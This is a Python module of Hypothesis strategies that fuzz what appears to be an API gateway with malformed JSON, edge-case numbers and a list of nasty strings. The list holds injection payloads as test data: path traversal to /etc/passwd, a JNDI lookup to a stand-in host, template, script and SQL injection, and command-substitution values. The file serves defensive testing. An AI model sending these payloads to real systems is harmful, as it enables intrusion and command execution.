"""Hypothesis strategies for hostile input: JSON of any shape, nasty strings, odd numbers."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

#: strings that have broken gateways before: encodings, look-alike digits, injections, markup
NASTY = (
    "", " ", "\t", "\x00", "null", "None", "undefined", "NaN", "true", "[]", "{}", "0", "-0", "00",
    "1400006874\x00", " 1400006874 ", "1400006874\n", "1400006874\u200b", "\u202e4786000041",
    "١٤٠٠٠٠٦٨٧٤", "１４００００６８７４", "14000068740", "140000687", "0x53724E8A", "1.4e9", "1400006874.0",
    "../../etc/passwd", "%2e%2e%2f", "..\\..\\", "${jndi:ldap://x.invalid/a}", "{{7*7}}", "<%= 7*7 %>",
    "<script>alert(1)</script>", "' OR '1'='1", "\"; DROP TABLE x; --", "$(id)", "`id`", "|id",
    "yesterday\n", "YESTERDAY", "last_7d ", "today", "2026112000", "9999123123", "0000000000",
    "2026022900", "2026113024", "202611200", "20261120000", "1970010100", "2026112500", "2026112600",
    "@all", "<!channel>", "<@U123>", "[x](http://evil.invalid)", "<at user_id=\"all\"></at>",
    "\ud800", "\udfff", "\ufffd", "\ufeff", "🙂" * 17, "A" * 65, "ǅ" * 30, "\u0301" * 50,
    "Bearer", "Bearer ", "bearer x", "Basic YWRtaW46YWRtaW4=",
)

#: text including lone surrogates and every Unicode category
any_text = st.text(st.characters(exclude_categories=()), max_size=80)
hostile_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    any_text,
    st.builds(lambda s, n: s * n, st.text(min_size=1, max_size=4), st.integers(min_value=20, max_value=6000)),
)
numbers = st.one_of(
    st.integers(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0, -1, 1, 1400006874, 2**63, -(2**63), 1e308, -0.0]),
)
scalars = st.one_of(st.none(), st.booleans(), numbers, hostile_text)


def json_values(max_leaves: int = 12) -> st.SearchStrategy[Any]:
    """Any JSON value (what a JSON-decoded event can hold), nested."""
    return st.recursive(
        scalars,
        lambda children: st.one_of(
            st.lists(children, max_size=4),
            st.dictionaries(st.one_of(hostile_text, st.sampled_from(KEYS)), children, max_size=5),
        ),
        max_leaves=max_leaves,
    )


#: the parameter names a lookup reads (and a few near misses)
KEYS = ("app_id", "SmsSdkAppId", "begin", "BeginTime", "end", "EndTime", "window", "granularity",
        "Limit", "limit", "Offset", "offset", "APP_ID", "app_id ", "token", "job", "app_ids", "Type",
        "httpMethod", "path", "headers", "body", "Message")
